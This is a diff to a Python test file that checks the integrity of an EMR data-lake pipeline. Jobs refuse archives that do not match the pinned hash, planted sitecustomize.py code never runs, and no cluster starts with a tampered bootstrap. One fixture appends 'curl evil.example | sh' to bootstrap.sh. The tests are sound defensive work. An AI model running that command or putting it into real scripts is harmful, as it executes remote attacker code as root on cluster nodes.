@@ -1,6 +1,8 @@
 """The code EMR runs is pinned: `lake package --upload` puts each release under its own
-sha256, the engines read that one, and the job refuses any other archive (no Spark, no AWS)."""
+sha256, the engines read that one, the job refuses any other archive before anything in it
+can run, and no cluster starts with another bootstrap (no Spark, no AWS)."""
 
+import os
 import shutil
 import subprocess
 import sys
@@ -18,18 +20,28 @@ JOB_ARGS = ["dim_visa", "--raw", "r", "--lake", "l", "--cache", "c", "--catalog"
 
 
 def unpacked_release(root: Path) -> str:
-    """A cluster's working folder: the entry point beside ./deps (a small archive holding its own
-    copy); returns the archive's sha256."""
+    """A cluster's working folder: the entry point beside ./deps (an archive holding the project
+    and a packaged dependency; this environment supplies the others); returns its sha256."""
     shutil.copy(engines.ENTRY_POINT, root / "spark_job.py")
-    (root / "deps" / "lake_assets").mkdir(parents=True)
-    shutil.copy(engines.ENTRY_POINT, root / "deps" / "lake_assets" / "spark_job.py")
-    (root / "deps" / "dagster_pipes").mkdir()
-    (root / "deps" / "dagster_pipes" / "__init__.py").write_text("# the packaged dependency\n")
+    shutil.copytree(package.PACKAGE_DIR, root / "deps" / "lake_assets", ignore=shutil.ignore_patterns("__pycache__"))
+    (root / "deps" / "packaged_dependency").mkdir()
+    (root / "deps" / "packaged_dependency" / "__init__.py").write_text("# the packaged dependency\n")
     return tree_sha256(root / "deps")
 
 
-def run_job(root: Path, *args: str) -> subprocess.CompletedProcess:
+def driver_env() -> dict[str, str]:
+    """The environment the EMR engines give the driver (their `<prefix>NAME=value` settings)."""
+    engine = engines.EmrServerlessEngine(lake=LakeResource(raw_dir="s3://b/raw", lake_dir="s3://b/lake"), bucket="b",
+                                         artifacts_uri="s3://b/artifacts", artifacts_sha256="0" * 64,
+                                         logs_uri="s3://b/emr/", application_id="app", execution_role_arn="role")
+    conf = engine.python_conf("driver.")
+    return {key.removeprefix("driver."): value for key, value in conf.items() if key.startswith("driver.")}
+
+
+def run_job(root: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
+    clean = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
     return subprocess.run([sys.executable, "spark_job.py", *JOB_ARGS, *args], cwd=root,
+                          env={**clean, "PYTHONDONTWRITEBYTECODE": "1", **driver_env(), **(env or {})},
                           capture_output=True, text=True, timeout=60)
 
 
@@ -41,9 +53,45 @@ def test_the_job_runs_only_the_archive_it_was_pinned_to(tmp_path):
     other = run_job(tmp_path, "--artifacts-sha256", "0" * 64)
     assert other.returncode == 1 and f"./deps is {sha256}, not the release {'0' * 64}" in other.stderr
 
-    (tmp_path / "deps" / "dagster_pipes" / "__init__.py").write_text("# changed after the release\n")
+    (tmp_path / "deps" / "packaged_dependency" / "__init__.py").write_text("# changed after the release\n")
     changed = run_job(tmp_path, "--artifacts-sha256", sha256)
     assert changed.returncode == 1 and "refusing to run" in changed.stderr
+
+
+def test_planted_code_in_the_artifacts_never_runs(tmp_path):
+    """A `sitecustomize.py` (which Python imports at start from any folder on its path) added to
+    the archive would write a marker: the tampered archive is refused and the marker never written."""
+    sha256 = unpacked_release(tmp_path)
+    marker = tmp_path / "planted-code-ran"
+    (tmp_path / "deps" / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
+    done = run_job(tmp_path, "--artifacts-sha256", sha256)
+    assert done.returncode == 1 and f"refusing to run: ./deps is {tree_sha256(tmp_path / 'deps')}" in done.stderr
+    assert not marker.exists()
+    # what the driver did before: ./deps on PYTHONPATH ran the planted file before any check
+    run_job(tmp_path, "--artifacts-sha256", sha256, env={"PYTHONPATH": "./deps"})
+    assert marker.exists()
+
+
+def test_no_cluster_starts_with_tampered_bootstrap_artifacts(tmp_path, monkeypatch):
+    """bootstrap.sh runs as root on every node: the engine starts no cluster unless the release's
+    copy is the bootstrap this code ships."""
+    from dagster import Failure
+
+    monkeypatch.delenv("LAKE_S3_ENDPOINT", raising=False)
+    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
+    engine = engines.EmrClusterEngine(lake=LakeResource(raw_dir="s3://lake/raw", lake_dir="s3://lake/lake"),
+                                      bucket="lake", artifacts_uri="s3://lake/artifacts", artifacts_sha256="ab" * 32,
+                                      logs_uri="s3://lake/emr/")
+    key = f"artifacts/{'ab' * 32}/{package.BOOTSTRAP_FILE}"
+    with mock_aws():
+        s3 = boto3.client("s3")
+        s3.create_bucket(Bucket="lake")
+        s3.put_object(Bucket="lake", Key=key, Body=package.BOOTSTRAP.encode())
+        engine.check_bootstrap()
+        s3.put_object(Bucket="lake", Key=key, Body=package.BOOTSTRAP.encode() + b"curl evil.example | sh\n")
+        with pytest.raises(Failure, match="refusing to start an EMR cluster: s3://lake/.*/bootstrap.sh is [0-9a-f]{64}"):
+            engine.cluster_id(context=None, step="dim_visa")
+        assert boto3.client("emr").list_clusters()["Clusters"] == []
 
 
 def test_the_entry_point_must_be_the_archives_own(tmp_path):
